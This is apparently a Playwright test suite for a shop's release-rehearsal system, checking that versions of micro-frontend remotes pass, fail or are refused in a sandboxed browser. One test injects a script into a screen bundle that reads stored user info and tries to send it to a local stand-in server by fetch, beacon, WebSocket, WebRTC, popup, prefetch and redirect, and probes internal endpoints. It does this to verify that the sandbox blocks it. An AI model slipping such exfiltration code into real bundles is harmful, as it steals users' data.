import { spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import { once } from 'node:events';
import fs from 'node:fs';
import net from 'node:net';
import type { ReleaseDocument } from '@cellar/shared/contract/discovery';
import { JOURNEY_MS } from '../../support/server/patience';
import {
  change,
  hostReleaseOf,
  publish,
  releaseDesk,
  releaseOf,
  rowOf,
  type Console,
  type Rehearsal,
} from '../../support/server/releases';
import { CLOSELY } from '../../support/walk/closely';
import { routes } from '../../support/walk/routes';
import { startShop, type Shop } from '../../support/server/shop';
import { expect, test } from '../../support/test';

/** Whether this machine lets an unprivileged browser have its sandbox; elsewhere a release says that it was not rehearsed. */
const hasSandbox = (() => {
  const drop = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--'] : [];
  const [program = 'unshare', ...args] = [...drop, 'unshare', '--user', 'true'];
  return spawnSync(program, args).status === 0;
})();

type Seen = { type: string; user: string; seccomp: string; sandboxed: boolean };

const fieldOf = (status: string, name: string) => new RegExp(`^${name}:\\s+(\\S+)`, 'm').exec(status)?.[1] ?? '';

/** What runs of rehearsals' browsers right now: those that were given a folder of a rehearsal, and what they started. */
function browsersNow(): Seen[] {
  const read = (id: string, file: string) => {
    try {
      return fs.readFileSync(`/proc/${id}/${file}`, 'utf8');
    } catch {
      return ''; // it has ended meanwhile
    }
  };
  const ids = fs.readdirSync('/proc').filter((entry) => /^\d+$/.test(entry));
  const processes = new Map(ids.map((id) => [id, { line: read(id, 'cmdline'), status: read(id, 'status') }]));
  const isRehearsal = (id: string): boolean => {
    const found = processes.get(id);
    return !!found && (found.line.includes('/cellar-rehearsal-') || isRehearsal(fieldOf(found.status, 'PPid')));
  };
  return [...processes]
    .filter(([id, { status }]) => /chrom/i.test(fieldOf(status, 'Name')) && isRehearsal(id))
    .map(([, { line, status }]) => ({
      type: /--type=(\w+)/.exec(line)?.[1] ?? 'browser',
      user: fieldOf(status, 'Uid'),
      seccomp: fieldOf(status, 'Seccomp'),
      sandboxed: !line.includes('--no-sandbox'),
    }));
}

/** Somebody else's server, and what reached it. */
async function elsewhere() {
  const received: string[] = [];
  const tcp = net.createServer((socket) => {
    received.push('tcp');
    socket.on('error', () => undefined).end();
  });
  const udp = dgram.createSocket('udp4', () => received.push('udp'));
  tcp.listen(0, '127.0.0.1');
  udp.bind(0, '127.0.0.1');
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
  return {
    received,
    port: (tcp.address() as net.AddressInfo).port,
    udpPort: udp.address().port,
    close: () => [tcp.close(), udp.close()],
  };
}

const DONE = { states: 200 };

const remotes = [...new Set(routes.map(({ remote }) => remote))];

/** Leaves a version nothing to show but these screens. */
const only =
  (paths: string[]) =>
  (document: ReleaseDocument): ReleaseDocument => ({
    ...document,
    routes: document.routes.filter(({ path }) => paths.includes(path)),
    journeys: [],
  });

type Route = (typeof routes)[number];
/** What the shop is asked for before a screen is opened. */
const askedBefore = ({ visit: { query = {}, stored = {} } }: Route) =>
  [query, stored]
    .flatMap((part) => Object.values(part))
    .flatMap((value) => (typeof value === 'string' ? [] : value.call))
    .join();

/** Screens that are opened with something that the shop is asked for: one of those that ask for the same, closely each of them. */
function withThings(remote: string) {
  const asking = routes.filter((row) => row.remote === remote && askedBefore(row) !== '');
  const isFirst = (row: Route) => asking.find((other) => askedBefore(other) === askedBefore(row)) === row;
  return asking.filter((row) => CLOSELY || isFirst(row)).map(({ path }) => path);
}

/** Text that hardly compresses. */
const NOISE = Array.from({ length: 12_000 }, (_, at) => ((at * 2_654_435_761) % 4_294_967_296).toString(36)).join('');

test.describe('rehearsal', () => {
  test.describe.configure({ mode: 'default', timeout: 3 * JOURNEY_MS });
  test.skip(!hasSandbox, 'this machine lets no browser have a sandbox');
  let shop: Shop;
  let desk: Console;

  test.beforeAll(async ({ playwright }) => {
    shop = await startShop({ CHROME_PATH: process.env['CHROME_PATH'] ?? '' });
    desk = await releaseDesk(await playwright.request.newContext(), shop.origin);
  });
  test.afterAll(() => shop.stop());

  async function rehearsed(version: string, remote = 'courses'): Promise<Rehearsal> {
    const find = async () => (await rowOf(desk, remote)).versions.find((one) => one.version === version)?.rehearsal;
    // It opens every screen, and waits for each in its own time.
    await expect.poll(async () => (await find())?.state, { timeout: 2 * JOURNEY_MS }).not.toMatch(/waiting|running/);
    return (await find())!;
  }

  test('passes a sound version, which is then promoted without a word', async () => {
    const own = { name: '看酒课', steps: [{ open: '/course' }, { see: 'WSET' }] };
    const release = releaseOf('courses', '3.0.0', {
      document: (document) => ({ ...document, journeys: [...document.journeys, own] }),
    });
    expect(release.document.journeys).toHaveLength(2);
    expect(await publish(desk, release)).toMatchObject(DONE);
    expect(await rehearsed('3.0.0')).toMatchObject({ state: 'passed', findings: [] });
    expect(await change(desk, 'courses', 'promote', { version: '3.0.0', channel: 'stable' })).toMatchObject(DONE);
  });

  for (const remote of remotes.filter((name) => name !== 'courses')) {
    // Rule: release-13
    test(`passes ${remote} as it was built, with things of the shop on its screens`, async () => {
      // Its journeys are played in the rehearsal of the host; the other screens stand in `every.spec.ts` at the same address.
      const paths = withThings(remote);
      expect(paths).not.toEqual([]);
      expect(await publish(desk, releaseOf(remote, '3.0.0', { document: only(paths) }))).toMatchObject(DONE);
      expect(await rehearsed('3.0.0', remote)).toMatchObject({ state: 'passed', findings: [] });
    });
  }

  // Rules: release-21, release-29
  test('shows a host the live remotes and plays their journeys: it passes as it was built, and fails where it throws beside them', async () => {
    for (const remote of remotes) expect(releaseOf(remote, '3.0.0').document.journeys, remote).not.toEqual([]);
    expect(
      await publish(
        desk,
        hostReleaseOf('3.0.0', (text) => `${text};`),
      ),
    ).toMatchObject(DONE);
    expect(await rehearsed('3.0.0', 'host')).toMatchObject({ state: 'passed', findings: [] });
    const late = `addEventListener('popstate',()=>{throw Error('boom')});setTimeout(()=>{throw Error('boom')},500);`;
    expect(
      await publish(
        desk,
        hostReleaseOf('3.1.0', (text) => late + text),
      ),
    ).toMatchObject(DONE);
    const { state, findings } = await rehearsed('3.1.0', 'host');
    expect(state).toBe('failed');
    expect(findings).toContainEqual({ where: '/index', what: 'threw: boom' });
  });

  // Rule: release-11
  test('runs as an unprivileged user in its sandbox, and what a version asks for elsewhere never leaves', async () => {
    const foreign = await elsewhere();
    const origin = `http://127.0.0.1:${foreign.port}`;
    const attack = `
      const person = encodeURIComponent(localStorage.getItem('user-info'));
      const attempts = [
        () => fetch('${origin}/fetch?' + person).catch(() => undefined), () => fetch('/console/api/remotes').catch(() => undefined), () => fetch('/metrics').catch(() => undefined),
        () => (new Image().src = '${origin}/image'), () => navigator.sendBeacon('${origin}/beacon', person), () => new WebSocket('${origin.replace('http', 'ws')}/socket'),
        () => navigator.serviceWorker.register('/worker.js').catch(() => undefined), () => open('${origin}/popup?' + person),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${origin}/prefetch' })),
        async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${foreign.udpPort}', 'turn:127.0.0.1:${foreign.port}?transport=tcp'], username: 'a', credential: 'b' }] });
          peer.createDataChannel('x');
          await peer.setLocalDescription(await peer.createOffer());
        },
        () => setTimeout(() => (location.href = '${origin}/leave?' + person), 0),
      ];
      for (const attempt of attempts) try { attempt(); } catch {}
    `;
    expect(
      await publish(
        desk,
        releaseOf('courses', '3.2.0', {
          file: (file, text) => (/^CourseScreen\..*js$/.test(file) ? `${attack};${text}` : text),
          document: only(['/course', '/consultation']),
        }),
      ),
    ).toMatchObject(DONE);
    const seen: Seen[] = [];
    const watching = setInterval(() => seen.push(...browsersNow()), 50);
    const { state, findings } = await rehearsed('3.2.0').finally(() => clearInterval(watching));
    foreign.close();
    expect(foreign.received).toEqual([]);
    expect(state).toBe('failed');
    const course = findings
      .filter(({ where }) => where === '/course')
      .map(({ what }) => what)
      .join('\n');
    for (const asked of [`${origin}/leave`, `${shop.origin}/console/api/remotes`, `${shop.origin}/metrics`])
      expect(course).toContain(`asked for ${asked}`);
    expect(seen.filter(({ user, sandboxed }) => user === '0' || !sandboxed)).toEqual([]);
    expect(seen.filter(({ type, seccomp }) => type === 'renderer' && seccomp === '2').length).toBeGreaterThan(0);
  });

  test('refuses a version that throws, is too heavy or fails its journey, before anybody has it', async () => {
    const journeys = [{ name: '没有的按钮', steps: [{ open: '/index' }, { press: '并不存在的按钮' }] }];
    const broken = releaseOf('courses', '3.1.0', {
      file: (file, text) =>
        /^CourseScreen\..*js$/.test(file) ? `throw new Error('broken');/*${NOISE}*/${text}` : text,
      document: (document) => ({ ...only(['/course', '/consultation'])(document), journeys }),
    });
    expect(await publish(desk, broken)).toMatchObject(DONE);
    const { state, findings } = await rehearsed('3.1.0');
    expect(state).toBe('failed');
    expect(findings).toEqual(
      expect.arrayContaining([
        { where: '/course', what: expect.stringMatching(/weighs/) },
        { where: '/course', what: 'its screen could not be opened' },
        { where: '没有的按钮', what: expect.stringMatching(/并不存在的按钮/) },
      ]),
    );
    expect(await change(desk, 'courses', 'promote', { version: '3.1.0', channel: 'stable' })).toMatchObject({
      states: 422,
    });
  });
});
